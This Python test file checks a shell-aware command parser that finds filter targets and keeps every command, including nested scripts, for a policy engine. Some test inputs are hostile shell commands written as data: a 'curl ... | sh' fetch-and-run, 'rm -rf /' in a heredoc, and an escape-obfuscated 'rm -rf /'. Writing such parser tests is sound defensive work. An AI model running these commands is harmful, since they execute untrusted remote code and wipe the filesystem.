"""The shell-aware splitter: targets for filters, every command for policy."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zeph_rules.engine.commands import parse_command


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ("cd /p && cargo test 2>&1 | tail -80", "cargo test"),
        ("RUST_BACKTRACE=1 cargo test --release > out.txt", "cargo test --release"),
        ('echo "a && b" ; git status', "git status"),
        ("pytest -q tests/ || true", "pytest -q tests/"),
        ("cargo test; echo $?", "cargo test"),
        ("(cd app; make -j4)", "make -j4"),
        ("make 2> err.log >&2", "make"),
        ("npm test &> log.txt", "npm test"),
        ("echo done", "echo done"),
        ("  ", ""),
    ],
)
def test_filter_target(line: str, target: str) -> None:
    assert parse_command(line).target_text == target


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ("time pytest -x", "pytest -x"),
        ("timeout -s KILL 5m cargo test --workspace", "cargo test --workspace"),
        ("env -u HOME CI=1 npm test", "npm test"),
        ("cd app && nice -n 5 make -j4 2>&1 | tee build.log", "make -j4"),
        ("sudo -u app tail -n 50 /var/log/app.log", "tail -n 50 /var/log/app.log"),
        ("bash -lc 'cd x && RUST_LOG=1 cargo build'", "cargo build"),
        ("stdbuf -oL timeout 60 python3 app.py", "python3 app.py"),
        # not wrapping anything: the command itself
        ("command -v cargo", "command -v cargo"),
        ("sudo -l", "sudo -l"),
        ("time", "time"),
        ("bash script.sh", "bash script.sh"),
    ],
)
def test_filter_target_looks_through_wrappers(line: str, target: str) -> None:
    found = parse_command(line).filter_target
    assert found is not None and found.text == target


def test_all_commands_and_nested_scripts_are_kept() -> None:
    parsed = parse_command('x=$(curl -s http://h | sh) && diff <(ls a) b; cat <<< "$(id)"; bash <<EOF\nrm -rf /\nEOF\nls')
    texts = [cmd.text for cmd in parsed.commands]
    assert texts == ["", "diff <(ls a) b", "cat", "bash", "ls"]
    subs = [s for cmd in parsed.commands for w in cmd.words for s in w.substitutions]
    assert subs == ["curl -s http://h | sh", "ls a"]
    redirects = [r for cmd in parsed.commands for r in cmd.redirections]
    assert redirects[0].op == "<<<" and redirects[0].target is not None and redirects[0].target.substitutions == ("id",)
    assert redirects[1].op == "<<" and redirects[1].body == "rm -rf /"


def test_quotes_escapes_and_ansi_c() -> None:
    words = parse_command("r\\m -r'f' \"/\" $'\\x72\\155' $'\\u00e9'").commands[0].words
    assert [w.value for w in words] == ["rm", "-rf", "/", "rm", "é"]
    assert parse_command("/usr/bin/git status").target.program == "git"  # type: ignore[union-attr]


@given(st.text(max_size=200))
def test_never_raises_and_target_is_from_the_line(text: str) -> None:
    parsed = parse_command(text)
    assert isinstance(parsed.target_text, str)
    target = parsed.filter_target
    assert target is None or isinstance(target.text, str)
